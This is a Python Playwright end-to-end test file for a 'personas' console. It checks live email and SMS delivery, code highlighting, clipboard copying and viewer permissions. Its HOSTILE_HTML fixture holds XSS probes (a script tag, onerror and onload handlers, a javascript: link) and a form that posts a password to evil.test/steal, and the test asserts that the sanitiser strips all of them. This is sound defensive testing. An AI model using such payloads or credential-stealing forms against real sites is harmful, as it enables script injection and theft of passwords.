"""Personas in the console, in a real Chromium: mail sent over SMTP appears live, hostile HTML
runs nothing, codes are highlighted and copied, viewers only read."""

import re
import smtplib
from email.message import EmailMessage

import pytest
import requests
from playwright.sync_api import Page, expect

from personas_app.sms_signature import twilio_signature
from personas_app.smtp import MailServer
from tests.live import LiveServer

pytestmark = pytest.mark.e2e

HOSTILE_HTML = """<html><body>
<h1>Confirm your account</h1>
<p>Your verification code is <b>731204</b>.</p>
<script>alert('script ran')</script>
<img src=x onerror="alert('onerror ran')">
<svg onload="alert('svg ran')"></svg>
<a href="javascript:alert('link ran')">Click me</a>
<a href="https://acme.test/verify?token=abc">Verify my email</a>
<form action="https://evil.test/steal"><input name="password"><button>Log in</button></form>
</body></html>"""


@pytest.fixture
def live(transactional_db):
    """No browser worker: personas need none."""
    server = LiveServer(embedded_worker=False).start()
    yield server
    server.stop()


@pytest.fixture
def mail_server(live):
    server = live.call(lambda: MailServer(host="127.0.0.1", port=0).start())
    yield server
    live.call(server.stop)


def _send(
    server: MailServer, to: str, *, subject: str, html: str | None = None, text: str | None = None
) -> None:
    msg = EmailMessage()
    msg["From"] = "Acme <no-reply@acme.test>"
    msg["To"] = to
    msg["Subject"] = subject
    msg.set_content(text or "See the HTML part.")
    if html:
        msg.add_alternative(html, subtype="html")
    with smtplib.SMTP(server.host, server.port, timeout=10) as client:
        client.send_message(msg)


def _create_persona(page: Page, live) -> str:
    page.goto(f"{live.url}/personas/")
    page.get_by_role("button", name="Create persona").click()
    expect(page.get_by_role("heading", name="Inbox")).to_be_visible()
    return page.locator("#persona-email").inner_text().strip()


def test_mail_arrives_live_and_hostile_html_runs_nothing(
    page: Page, live, owner, team, login, mail_server
):
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    login(page)
    address = _create_persona(page, live)
    expect(page.get_by_text("No mail yet.")).to_be_visible()
    page.evaluate("window.__noReload = true")

    _send(
        mail_server,
        address,
        subject="Confirm your account",
        html=HOSTILE_HTML,
        text="Your verification code is 731204.",
    )
    message = page.locator("#inbox .msg").first
    expect(message).to_contain_text("Confirm your account", timeout=10_000)  # polled in, no reload
    expect(message.locator("mark.hl-code")).to_have_text("731204")
    assert page.evaluate("window.__noReload === true")

    message.get_by_role("link").click()
    expect(page.get_by_role("heading", name="Confirm your account")).to_be_visible()
    frame = page.frame_locator("iframe.mail-frame")
    expect(frame.get_by_role("heading", name="Confirm your account")).to_be_visible()
    expect(frame.get_by_role("link", name="Verify my email")).to_have_attribute(
        "href", "https://acme.test/verify?token=abc"
    )
    assert frame.locator("script, svg, form, input, [onerror], [onload]").count() == 0
    js_link = frame.get_by_text("Click me")
    assert js_link.get_attribute("href") is None  # the javascript: URL was removed
    js_link.click()
    page.wait_for_timeout(500)  # give any handler a chance to fire
    assert dialogs == []
    expect(page.locator(".code-big")).to_have_text("731204")
    expect(page.locator(".found")).to_contain_text("https://acme.test/verify?token=abc")


def test_copy_buttons_put_the_address_on_the_clipboard(page: Page, live, owner, team, login):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=live.url)
    login(page)
    address = _create_persona(page, live)
    button = page.get_by_role("button", name="Copy email address")
    button.click()
    expect(button).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == address
    expect(button).to_have_text("Copy")


def test_an_sms_shows_up_live_with_its_code(page: Page, live, owner, team, login, settings):
    settings.PERISCOPE_SMS_AUTH_TOKEN = "e2e-token"
    settings.PERISCOPE_SMS_NUMBERS = ["+15550000009"]
    login(page)
    page.goto(f"{live.url}/personas/")
    page.get_by_label("With a phone number").check()
    page.get_by_role("button", name="Create persona").click()
    expect(page.locator("#persona-phone")).to_have_text("+15550000009")

    url = f"{live.api_url}/personas/sms/inbound"
    form = {
        "From": "+15557654321",
        "To": "+15550000009",
        "Body": "Your Acme code is 482913",
        "MessageSid": "SMe2e",
    }
    signature = twilio_signature(url=url, params=form.items(), auth_token="e2e-token")
    assert (
        requests.post(
            url, data=form, headers={"X-Twilio-Signature": signature}, timeout=10
        ).status_code
        == 200
    )
    sms = page.locator("#sms-list .msg").first
    expect(sms).to_contain_text("Your Acme code is", timeout=10_000)
    expect(sms.locator("mark.hl-code")).to_have_text("482913")


def test_delete_asks_first_and_viewers_only_read(page: Page, live, owner, team, login, viewer):
    login(page)
    _create_persona(page, live)
    name = page.get_by_role("heading", level=1).inner_text().split("\n")[0].strip()
    page.once("dialog", lambda dialog: dialog.dismiss())
    page.get_by_role("button", name="Delete persona").click()
    expect(page.get_by_role("heading", name="Inbox")).to_be_visible()  # dismissed: still there

    page.context.clear_cookies()
    login(page, "victor", "pass-for-e2e-123")
    page.goto(f"{live.url}/personas/")
    expect(page.get_by_role("link", name=name)).to_be_visible()
    expect(page.get_by_role("button", name="Create persona")).to_have_count(0)
    expect(page.get_by_role("button", name="Delete")).to_have_count(0)

    page.context.clear_cookies()
    login(page)
    page.goto(f"{live.url}/personas/")
    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Delete").click()
    expect(page.locator(".messages")).to_contain_text(
        re.compile(r"Deleted .+, with its mail and SMS")
    )
    expect(page.get_by_text("No personas yet.")).to_be_visible()
